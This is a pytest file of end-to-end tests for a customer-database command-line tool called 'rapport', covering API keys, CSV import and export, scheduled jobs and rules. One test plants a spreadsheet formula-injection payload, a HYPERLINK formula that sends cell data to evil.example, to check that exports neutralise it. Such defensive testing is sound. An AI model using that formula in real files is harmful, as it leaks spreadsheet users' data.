"""The ``rapport`` command as users run it: separate processes over a real database file."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from adapters.graphql.schema import schema_sdl

RAPPORT = str(Path(sys.executable).with_name("rapport"))
QUERY = "{ customers(first: 5) { totalCount edges { node { id email } } } }"


@pytest.fixture
def environment(tmp_path: Path) -> dict[str, str]:
    return {**os.environ, "RAPPORT_DATABASE_URL": f"sqlite:///{tmp_path / 'cli.db'}"}


def rapport(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [RAPPORT, *args], env=env, capture_output=True, text=True, timeout=120, check=True
    )


def attempt(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    """``rapport`` run as one whose exit status the test checks itself."""
    return subprocess.run(
        [RAPPORT, *args], env=env, capture_output=True, text=True, timeout=120, check=False
    )


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


def post(port: int, query: str, key: str | None) -> tuple[int, dict[str, Any]]:
    headers = {"Content-Type": "application/json"}
    if key:
        headers["Authorization"] = f"Bearer {key}"
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/graphql",
        data=json.dumps({"query": query}).encode(),
        headers=headers,
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


@pytest.fixture
def server(environment: dict[str, str]) -> Iterator[tuple[int, subprocess.Popen[str], Path]]:
    port = free_port()
    log = Path(environment["RAPPORT_DATABASE_URL"].removeprefix("sqlite:///")).with_suffix(".log")
    with log.open("w") as output:
        process = subprocess.Popen(
            [RAPPORT, "serve", "--dev", "--port", str(port)],
            env=environment,
            stdout=output,
            stderr=subprocess.STDOUT,
            text=True,
        )
        try:
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline:
                try:
                    urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=1).close()
                    break
                except OSError:
                    assert process.poll() is None, log.read_text()
                    time.sleep(0.2)
            else:
                pytest.fail(f"server did not start:\n{log.read_text()}")
            yield port, process, log
        finally:
            process.terminate()
            process.wait(timeout=20)


def test_development_server_serves_demo_customers_only_with_the_printed_key(
    server: tuple[int, subprocess.Popen[str], Path],
) -> None:
    port, _process, log = server
    key = re.search(r"rpk_[\w-]+", log.read_text())
    assert key is not None, log.read_text()
    status, body = post(port, QUERY, key.group())
    assert status == 200
    # 500 demo customers, and one planted duplicate for every 40 of them.
    assert body["data"]["customers"]["totalCount"] == 500 + len(range(0, 500, 40))
    assert len(body["data"]["customers"]["edges"]) == 5
    assert all("@" in edge["node"]["email"] for edge in body["data"]["customers"]["edges"])

    status, body = post(port, QUERY, None)
    assert status == 401
    assert "data" not in body


def test_commands_share_one_database(environment: dict[str, str]) -> None:
    assert "latest schema" in rapport(environment, "db", "upgrade").stderr
    key = (
        rapport(environment, "apikey", "create", "--role", "admin").stdout.strip().splitlines()[-1]
    )
    assert key.startswith("rpk_")
    assert "created 26 customers" in rapport(environment, "seed", "--customers", "25").stderr
    scored = rapport(environment, "jobs", "run", "rfm", "--window-days", "0")
    assert re.search(r"\d+ customers scored", scored.stdout + scored.stderr)
    refreshed = rapport(environment, "jobs", "run", "segments")
    assert "0 dynamic segments changed membership" in refreshed.stdout + refreshed.stderr
    exported = rapport(environment, "schema", "export", "--output", "-").stdout
    assert exported == schema_sdl()


def test_keys_are_created_listed_and_revoked_from_the_command_line(
    environment: dict[str, str],
) -> None:
    rapport(environment, "db", "upgrade")
    created = rapport(
        environment,
        "apikey",
        "create",
        "--role",
        "agent",
        "--user-email",
        "sync@example.com",
        "--expires-in-days",
        "30",
    )
    token = created.stdout.strip().splitlines()[-1]
    key_id = token.split("_")[1]
    assert "until" in created.stderr
    listed = rapport(environment, "apikey", "list").stdout
    assert key_id in listed and "sync@example.com" in listed and "active" in listed
    assert "latest" not in listed
    revoked = rapport(environment, "apikey", "revoke", key_id)
    assert "revoked" in revoked.stderr
    assert key_id in rapport(environment, "apikey", "list", "--inactive").stdout
    assert key_id not in rapport(environment, "apikey", "list", "--active").stdout
    again = attempt(environment, "apikey", "revoke", key_id)
    assert again.returncode != 0 and "ALREADY_REVOKED" in again.stderr
    unknown = attempt(environment, "apikey", "revoke", "nosuchkey")
    assert unknown.returncode != 0 and "no API key has this id" in unknown.stderr
    past = attempt(environment, "apikey", "create", "--role", "agent", "--expires-at", "2020-01-01")
    assert past.returncode != 0 and "expiresAt" in past.stderr


def test_unknown_role_is_refused_with_a_message(environment: dict[str, str]) -> None:
    # Roles are data, so the database must exist to know which there are.
    rapport(environment, "db", "upgrade")
    result = subprocess.run(
        [RAPPORT, "apikey", "create", "--role", "emperor"],
        env=environment,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2
    assert "emperor" in result.stderr


def test_the_lifecycle_sweep_runs_from_the_command_line_and_twice_changes_nothing(
    environment: dict[str, str],
) -> None:
    rapport(environment, "db", "upgrade")
    rapport(environment, "seed", "--customers", "30")
    first = rapport(environment, "jobs", "run", "lifecycle-sweep").stderr
    checked = re.search(r"([\d,]+) active customers checked, ([\d,]+) stage changes", first)
    assert checked is not None, first
    assert int(checked.group(1).replace(",", "")) > 0
    second = rapport(environment, "jobs", "run", "lifecycle-sweep").stderr
    assert f"{checked.group(1)} active customers checked, 0 stage changes" in second


def _exported(environment: dict[str, str], *options: str) -> list[dict[str, str]]:
    output = rapport(environment, "export", "customers", *options).stdout
    return list(csv.DictReader(io.StringIO(output)))


def test_export_filters_by_custom_fields_tags_and_creation(environment: dict[str, str]) -> None:
    rapport(environment, "db", "upgrade")
    rapport(environment, "seed", "--customers", "60")
    everyone = _exported(environment)
    growth = _exported(environment, "--filter", "plan=growth", "--filter", "newsletter=true")
    assert growth
    assert [row["id"] for row in growth] == [
        row["id"]
        for row in everyone
        if row["custom:plan"] == "growth" and row["custom:newsletter"] == "true"
    ]
    paying = _exported(environment, "--filter", "plan in starter, growth, enterprise")
    assert {row["custom:plan"] for row in paying} <= {"starter", "growth", "enterprise"}
    assert len(paying) == sum(row["custom:plan"] not in ("free", "") for row in everyone)
    vip = {row["id"] for row in _exported(environment, "--tag", "vip")}
    wholesale = {row["id"] for row in _exported(environment, "--tag", "Wholesale")}
    either = {row["id"] for row in _exported(environment, "--tag", "VIP", "--tag", "Wholesale")}
    assert vip and wholesale and either == vip | wholesale
    assert len(either) < len(everyone)
    assert _exported(environment, "--created-after", "2999-01-01") == []


def test_export_refuses_unknown_fields_tags_and_bad_conditions(
    environment: dict[str, str],
) -> None:
    rapport(environment, "db", "upgrade")
    rapport(environment, "seed", "--customers", "5")
    for options, message in (
        (("--filter", "colour=red"), "UNKNOWN_FIELD"),
        (("--filter", "plan=platinum"), "INVALID_CHOICE"),
        (("--filter", "plan"), "is not a condition"),
        (("--tag", "Nope"), "no tag named Nope"),
        (("--search", "x" * 201), "TOO_LONG"),
        (("--search", "a\tb"), "must not contain control characters"),
    ):
        result = subprocess.run(
            [RAPPORT, "export", "customers", *options],
            env=environment,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert result.returncode == 2, options
        assert message in result.stderr, (options, result.stderr)
        assert result.stdout == ""


def test_exported_cells_that_would_run_as_formulas_are_neutralised(
    environment: dict[str, str], tmp_path: Path
) -> None:
    rapport(environment, "db", "upgrade")
    people = tmp_path / "people.csv"
    people.write_text(
        "email,first_name,last_name\n"
        'eve@example.com,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",@SUM(A1)\n'
        "mal@example.com,+1+1,-2+3\n",
        encoding="utf-8",
    )
    rapport(environment, "import", "customers", str(people))
    output = rapport(environment, "export", "customers").stdout
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","\'@SUM(A1)"' in output
    names = {(row["first_name"], row["last_name"]) for row in csv.DictReader(io.StringIO(output))}
    assert names == {
        ('\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@SUM(A1)"),
        ("'+1+1", "'-2+3"),
    }


def test_import_reads_utf8_unless_told_and_reports_lines_invalid_in_the_encoding(
    environment: dict[str, str], tmp_path: Path
) -> None:
    rapport(environment, "db", "upgrade")
    mixed = tmp_path / "mixed.csv"
    mixed.write_bytes(
        b"first_name,last_name,email\n"
        + "王,芳,wf@example.cn\n".encode("gb18030")
        + "张伟,李娜,zw@example.cn\n".encode()
    )
    result = attempt(environment, "import", "customers", str(mixed))
    assert result.returncode == 1, result.stderr
    assert "2 rows (utf-8): 1 created, 0 updated, 0 unchanged, 0 merged, 1 rows rejected" in (
        result.stderr
    )
    report = (tmp_path / "mixed.csv.errors.csv").read_text(encoding="utf-8")
    [line] = csv.DictReader(io.StringIO(report))
    assert (line["row"], line["code"]) == ("2", "INVALID_ENCODING")

    chinese = tmp_path / "gb.csv"
    chinese.write_bytes("first_name,last_name,email\n李,雷,ll@example.cn\n".encode("gb18030"))
    read = rapport(environment, "import", "customers", str(chinese), "--encoding", "gb18030")
    assert "1 rows (gb18030): 1 created" in read.stderr
    exported = csv.DictReader(io.StringIO(rapport(environment, "export", "customers").stdout))
    assert sorted(row["last_name"] for row in exported) == ["李娜", "雷"]

    refused = attempt(environment, "import", "customers", str(chinese), "--encoding", "klingon")
    assert refused.returncode == 2
    assert "encoding: 'klingon' is not an encoding (INVALID)" in refused.stderr


def test_rows_repeating_a_customer_are_reported_and_a_second_import_changes_nothing(
    environment: dict[str, str], tmp_path: Path
) -> None:
    rapport(environment, "db", "upgrade")
    people = tmp_path / "people.csv"
    people.write_text(
        "email,first_name,external_id:shop\n"
        "ada@example.com,Ada,\n"
        "ADA@Example.com,Augusta,\n"
        "bob@example.com,Bob,7\n"
        "rob@example.com,Rob,7\n",
        encoding="utf-8",
    )
    counts = []
    for _ in range(2):
        result = attempt(environment, "import", "customers", str(people))
        assert result.returncode == 1, result.stderr
        counts.append(re.search(r"4 rows \(utf-8\): .* rows rejected", result.stderr))
    assert [match.group() if match else None for match in counts] == [
        "4 rows (utf-8): 2 created, 0 updated, 0 unchanged, 0 merged, 2 rows rejected",
        "4 rows (utf-8): 0 created, 0 updated, 2 unchanged, 0 merged, 2 rows rejected",
    ]
    report = (tmp_path / "people.csv.errors.csv").read_text(encoding="utf-8")
    assert [
        (line["row"], line["column"], line["code"], line["message"])
        for line in csv.DictReader(io.StringIO(report))
    ] == [
        ("3", "email", "DUPLICATE_IN_FILE", "row 2 of this file has this email already"),
        (
            "5",
            "external_id:shop",
            "DUPLICATE_IN_FILE",
            "row 4 of this file has the external id shop:7 already",
        ),
    ]
    exported = csv.DictReader(io.StringIO(rapport(environment, "export", "customers").stdout))
    assert sorted((row["first_name"], row["version"]) for row in exported) == [
        ("Ada", "1"),
        ("Bob", "1"),
    ]


def test_recurring_jobs_are_listed_and_run_when_due(environment: dict[str, str]) -> None:
    rapport(environment, "db", "upgrade")
    listed = rapport(environment, "jobs", "list").stdout
    assert "lifecycle-sweep" in listed and "daily at 02:00 UTC" in listed
    assert "auto-tag" in listed and "hourly at :00" in listed and "never" in listed
    ran = rapport(environment, "jobs", "run-due").stderr
    assert "jobs run: none" in ran and "timers fired 0" in ran


def test_the_worker_runs_a_job_that_fell_due(environment: dict[str, str], tmp_path: Path) -> None:
    rapport(environment, "db", "upgrade")
    rapport(environment, "jobs", "list")
    with sqlite3.connect(tmp_path / "cli.db") as connection:
        connection.execute(
            "UPDATE scheduled_jobs SET next_run_at = '2020-01-01 00:00:00.000000'"
            " WHERE name = 'auto-tag'"
        )
    worker = subprocess.Popen([RAPPORT, "worker"], env=environment, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            with sqlite3.connect(tmp_path / "cli.db") as connection:
                finished, error = connection.execute(
                    "SELECT last_finished_at, last_error FROM scheduled_jobs"
                    " WHERE name = 'auto-tag'"
                ).fetchone()
            if finished:
                break
            time.sleep(0.2)
    finally:
        worker.terminate()
        worker.wait(timeout=30)
    assert finished and error is None


def test_the_cross_sell_rule_runs_from_the_command_line_once_per_customer(
    environment: dict[str, str], tmp_path: Path
) -> None:
    rapport(environment, "db", "upgrade")
    rapport(environment, "seed", "--customers", "30")
    rule = tmp_path / "rule.json"
    rule.write_text(
        json.dumps(
            {
                "key": "headphones_for_jazz",
                "name": "Headphones for jazz buyers",
                "condition": {
                    "type": "bought_without",
                    "product": "cd-kob",
                    "days": 180,
                    "neverBought": "hp-pro",
                },
                "action": {"type": "create_task", "kind": "email", "title": "Offer headphones"},
            }
        )
    )
    assert (
        "rule headphones_for_jazz saved"
        in rapport(environment, "pipeline", "add-rule", str(rule)).stderr
    )
    first = rapport(environment, "jobs", "run", "pipeline-rules").stderr
    made = re.search(r"([\d,]+) tasks created", first)
    assert made is not None and int(made.group(1)) > 0, first
    assert "0 tasks created" in rapport(environment, "jobs", "run", "pipeline-rules").stderr
    reminders = rapport(environment, "jobs", "run", "pipeline-reminders").stderr
    assert "0 task reminders" in reminders
